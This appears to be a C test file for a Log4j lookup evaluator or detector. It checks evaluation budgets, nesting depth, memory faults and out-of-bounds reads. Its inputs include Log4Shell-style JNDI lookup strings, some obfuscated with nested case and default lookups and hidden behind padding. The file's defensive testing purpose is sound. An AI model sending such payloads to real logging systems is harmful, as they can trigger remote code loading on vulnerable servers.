/* Hostile input: every evaluation ends within its budget, memory may run out anywhere, and nothing is read past the end. */
#include "lookup_test.h"

#include "support/edge.h"
#include "support/fault_alloc.h"
#include "support/gen_lookup.h"

static ct_str repeated(ct_arena *a, const char *head, const char *unit, size_t times, const char *tail)
{
    size_t h = strlen(head), u = strlen(unit), t = strlen(tail), n = h + u * times + t;
    unsigned char *p = ct_arena_alloc(a, n);
    assert_non_null(p);
    memcpy(p, head, h);
    for (size_t i = 0; i < times; i++) memcpy(p + h + i * u, unit, u);
    memcpy(p + h + u * times, tail, t);
    return (ct_str){p, n};
}

static void poison_ends(void **state)
{
    (void)state;
    static const struct {
        int line;
        const char *head, *unit, *tail;
        size_t times;
        enum ct_eval_end end; /* under a budget of 8 MiB */
    } table[] = {
        {__LINE__, "", "${", "", 30000, CT_EVAL_DONE},
        {__LINE__, "", "${jndi:", "", 10000, CT_EVAL_DONE},
        {__LINE__, "", "${a}", "", 20000, CT_EVAL_DONE},
        {__LINE__, "", "${a}", "", 500000, CT_EVAL_SPENT},
        {__LINE__, "", "${jndi:a}", "", 20000, CT_EVAL_DONE},
        {__LINE__, "", "$${a}", "${", 20000, CT_EVAL_DONE},
        {__LINE__, "", "${a", "", 20000, CT_EVAL_DONE},
        {__LINE__, "", "${::-$}{a:-", "", 20000, CT_EVAL_DONE},
        {__LINE__, "${upper:", "\xc3\x9f", "}", 20000, CT_EVAL_DONE},
        {__LINE__, "${date:", "zzzz ", "}", 10000, CT_EVAL_DONE},
        {__LINE__, "", "$${event:Message}", " ${", 2000, CT_EVAL_SPENT},
        {__LINE__, "${::-", "x${event:Message}", "}", 100, CT_EVAL_OVERFLOWED},
    };
    const struct ct_profile *p = ct_profile_find(CT_STR("2.14.1"));
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        ct_arena *text = NULL, *a = arena_new();
        assert_int_equal(ct_arena_new(&ct_alloc_libc, 64u << 20, &text), CT_OK);
        ct_str in = repeated(text, table[i].head, table[i].unit, table[i].times, table[i].tail);
        uint64_t work = 8u << 20;
        struct ct_eval_opts opts = {.work = &work};
        struct ct_eval_result r;
        assert_int_equal(ct_eval(a, p, &opts, in, &r), CT_OK);
        if (r.end != table[i].end) fail_msg("line %d: end %d, work left %llu", table[i].line, r.end, (unsigned long long)work);
        ct_arena_free(a);
        ct_arena_free(text);
    }
}

/* Padding that Log4j itself gets through in linear time hides nothing: what stands behind 60 KiB of it is found, and the
 * evaluation ends, within the grant that a text of that length gets. */
static void padding_does_not_hide(void **state)
{
    (void)state;
    static const struct {
        int line;
        const char *unit, *attack;
    } table[] = {
#define PLAIN "${jndi:ldap://h/a}"
#define HIDDEN "${${lower:j}${::-n}${upper:d}i:ldap://h/a}"
        {__LINE__, "x", HIDDEN},          {__LINE__, "}", HIDDEN},           {__LINE__, "$}", HIDDEN},
        {__LINE__, "${}", HIDDEN},        {__LINE__, "${a}", PLAIN},         {__LINE__, "${a}", HIDDEN},
        {__LINE__, "${::-x}", PLAIN},     {__LINE__, "${::-x}", HIDDEN},     {__LINE__, "${::-}", HIDDEN},
        {__LINE__, "${:-${::-x}}", HIDDEN}, {__LINE__, "${lower:A}", HIDDEN}, {__LINE__, "${lower:${upper:a}}", HIDDEN},
        {__LINE__, "${env:A}", HIDDEN},   {__LINE__, "${env:A:-b}", HIDDEN}, {__LINE__, "${date:yyyy}", HIDDEN},
        {__LINE__, "$${a}", HIDDEN},      {__LINE__, "${::-$}{a}", HIDDEN},  {__LINE__, "${jndi:x}", HIDDEN},
        {__LINE__, "${jndi:ldap://h/${a}}", HIDDEN}, {__LINE__, "${a:-$${b:-c}}", HIDDEN}, {__LINE__, "${nosuch:a:b}", HIDDEN},
#undef PLAIN
#undef HIDDEN
    };
    const struct ct_profile *p = ct_profile_find(CT_STR("2.14.1"));
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++)
        for (enum ct_values values = CT_VALUES_UNSET; values <= CT_VALUES_SET; values++) {
            ct_arena *a = arena_new(), *scratch = arena_new();
            ct_str in = repeated(a, "", table[i].unit, 60 * 1024 / strlen(table[i].unit), table[i].attack);
            uint64_t work = CT_EVAL_WORK_BASE + (uint64_t)CT_EVAL_WORK_PER_BYTE * in.n;
            struct ct_eval_opts opts = {.values = values, .work = &work};
            struct ct_eval_result r;
            assert_int_equal(ct_eval(scratch, p, &opts, in, &r), CT_OK);
            if (r.end != CT_EVAL_DONE || r.n_reached == 0)
                fail_msg("line %d, values %d: end %d, %llu calls", table[i].line, values, r.end, (unsigned long long)r.n_reached);
            ct_arena_free(a);
            ct_arena_free(scratch);
        }
}

/* ${${${...}}}: deep enough to overflow Java's stack, and just not. */
static void depth_is_bounded(void **state)
{
    (void)state;
    static const struct {
        size_t levels;
        enum ct_eval_end end;
    } table[] = {{900, CT_EVAL_DONE}, {CT_EVAL_DEPTH_MAX + 10, CT_EVAL_OVERFLOWED}, {30000, CT_EVAL_OVERFLOWED}};
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        ct_arena *text = arena_new(), *a = NULL;
        assert_int_equal(ct_arena_new(&ct_alloc_libc, 64u << 20, &a), CT_OK);
        ct_str open = repeated(text, "", "${", table[i].levels, "x"), close = repeated(text, "", "}", table[i].levels, "");
        unsigned char *all = ct_arena_alloc(text, open.n + close.n);
        assert_non_null(all);
        memcpy(all, open.p, open.n);
        memcpy(all + open.n, close.p, close.n);
        ct_str in = {all, open.n + close.n};
        uint64_t work = UINT64_MAX;
        struct ct_eval_opts opts = {.work = &work, .sink = CT_SINK_SINGLE};
        struct ct_eval_result r;
        assert_int_equal(ct_eval(a, ct_profile_find(CT_STR("2.14.1")), &opts, in, &r), CT_OK);
        /* The work of 30000 levels is beyond the cap of live text: either way it ends as no plain answer. */
        if (table[i].levels < 30000) assert_int_equal(r.end, table[i].end);
        else assert_true(r.end == CT_EVAL_OVERFLOWED || r.end == CT_EVAL_SPENT);
        ct_arena_free(a);
        ct_arena_free(text);
    }
}

static void budget_of_any_size(void **state)
{
    (void)state;
    ct_str in = CT_STR("a${${lower:J}ndi:ldap://${env:H:-h}/$${x}}${::-b} ${");
    for (uint64_t budget = 0;; budget++) {
        ct_arena *a = arena_new();
        uint64_t work = budget;
        struct ct_eval_opts opts = {.work = &work};
        struct ct_eval_result r;
        assert_int_equal(ct_eval(a, ct_profile_find(CT_STR("2.14.1")), &opts, in, &r), CT_OK);
        assert_true(r.end == CT_EVAL_SPENT ? work == 0 : r.end == CT_EVAL_DONE);
        ct_arena_free(a);
        if (r.end == CT_EVAL_DONE) break;
        assert_true(budget < 100000);
    }
}

static void memory_may_run_out(void **state)
{
    (void)state;
    ct_arena *text = arena_new();
    ct_str inputs[] = {CT_STR("${jndi:${env:A}/$${b}} ${"), repeated(text, "", "${::-x${a:-", 400, ""),
                       repeated(text, "${jndi:ldap://h/", "${::-y}", 30000, "}")};
    for (size_t i = 0; i < 3; i++)
        for (int persistent = 0; persistent < 2; persistent++)
            for (unsigned n = 0;; n++) {
                struct fault_alloc f;
                fault_alloc_init(&f, n, persistent);
                ct_arena *a = NULL;
                ct_err e = ct_arena_new(&f.alloc, CT_LINE_ARENA_MAX, &a);
                uint64_t work = CT_EVAL_WORK_MAX;
                struct ct_eval_opts opts = {.work = &work};
                struct ct_eval_result r = {.n_reached = 77};
                if (e == CT_OK) e = ct_eval(a, ct_profile_find(CT_STR("2.14.1")), &opts, inputs[i], &r);
                if (e) assert_int_equal(r.n_reached, 77);
                ct_arena_free(a);
                assert_int_equal(f.live, 0);
                if (!f.failed) {
                    assert_int_equal(e, CT_OK);
                    break;
                }
                assert_int_equal(e, CT_ERR_NOMEM);
            }
    ct_arena_free(text);
}

static void nothing_is_read_past_the_end(void **state)
{
    (void)state;
    struct rng rng = rng_new("lookup_limits");
    ct_arena *a = arena_new();
    size_t n;
    const struct ct_profile *p = ct_profiles(&n);
    for (unsigned i = 0; i < 3000; i++) {
        struct ct_buf b;
        ct_buf_init(&b, a, CT_WINDOW);
        gen_lookup_line(&rng, &b);
        if (b.n == 0) continue;
        struct edge e = edge_new((ct_str){b.p, b.n - rng_below(&rng, (uint32_t)b.n)});
        (void)evaluate(a, &p[rng_below(&rng, (uint32_t)n)], (enum ct_sink)rng_below(&rng, 3), (enum ct_values)rng_below(&rng, 3),
                       e.input);
        edge_free(&e);
        ct_arena_clear(a);
    }
    ct_arena_free(a);
}

static void scratch_is_given_back(void **state)
{
    (void)state;
    ct_arena *a = arena_new();
    for (unsigned i = 0; i < 1000; i++) /* the text alone would fill the arena: the scratch must not pile up */
        (void)evaluate(a, ct_profile_find(CT_STR("2.14.1")), CT_SINK_SINGLE, CT_VALUES_UNSET, CT_STR("${jndi:ldap://h/${lower:A}}"));
    assert_true(ct_arena_used(a) < 2u << 20);
    ct_arena_free(a);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(poison_ends),          cmocka_unit_test(padding_does_not_hide),
        cmocka_unit_test(depth_is_bounded),
        cmocka_unit_test(budget_of_any_size),   cmocka_unit_test(memory_may_run_out),
        cmocka_unit_test(nothing_is_read_past_the_end), cmocka_unit_test(scratch_is_given_back),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
